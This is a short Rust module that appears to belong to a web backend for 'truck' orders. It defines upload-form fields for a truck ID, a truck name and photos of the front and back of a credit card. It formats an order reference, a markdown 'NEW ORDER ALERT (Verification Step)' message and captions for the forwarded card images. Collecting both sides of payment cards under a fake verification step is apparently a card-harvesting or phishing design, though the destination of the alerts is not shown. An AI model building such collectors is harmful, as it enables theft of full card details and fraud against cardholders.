use chrono::Utc;
use std::fmt;

use crate::services::form::ParsedForm;

pub const TRUCK_ID_FIELD: &str = "truckId";
pub const TRUCK_NAME_FIELD: &str = "truckName";
pub const CARD_FRONT_FIELD: &str = "cardFront";
pub const CARD_BACK_FIELD: &str = "cardBack";

pub const DEFAULT_TRUCK_ID: &str = "N/A";
pub const DEFAULT_TRUCK_NAME: &str = "Unknown Truck";

const ORDER_PREFIX: &str = "TRUCK-";

/// Per-request correlation id: `TRUCK-<epoch millis>`
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct OrderReference(i64);

impl OrderReference {
    pub fn now() -> Self {
        Self(Utc::now().timestamp_millis())
    }

    pub fn from_millis(millis: i64) -> Self {
        Self(millis)
    }
}

impl fmt::Display for OrderReference {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}{}", ORDER_PREFIX, self.0)
    }
}

/// Text fields of the upload form, with defaults applied
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TruckDetails {
    pub id: String,
    pub name: String,
}

impl TruckDetails {
    pub fn from_form(form: &ParsedForm) -> Self {
        Self {
            id: form
                .first_field(TRUCK_ID_FIELD)
                .unwrap_or(DEFAULT_TRUCK_ID)
                .to_string(),
            name: form
                .first_field(TRUCK_NAME_FIELD)
                .unwrap_or(DEFAULT_TRUCK_NAME)
                .to_string(),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CardSide {
    Front,
    Back,
}

impl CardSide {
    pub fn field_name(&self) -> &'static str {
        match self {
            CardSide::Front => CARD_FRONT_FIELD,
            CardSide::Back => CARD_BACK_FIELD,
        }
    }

    pub fn label(&self) -> &'static str {
        match self {
            CardSide::Front => "Credit Card Front Photo",
            CardSide::Back => "Credit Card Back Photo",
        }
    }
}

/// Markdown alert posted before the photos
pub fn alert_message(truck: &TruckDetails, order: &OrderReference) -> String {
    format!(
        "🚨 **NEW ORDER ALERT (Verification Step)** 🚨\n\n\
         **Truck:** {} (ID: {})\n\
         **Order ID:** {}\n\
         _Credit card images are attached for verification._",
        truck.name, truck.id, order
    )
}

pub fn photo_caption(order: &OrderReference, side: CardSide, truck_name: &str) -> String {
    format!("Order {}: {} for {}", order, side.label(), truck_name)
}
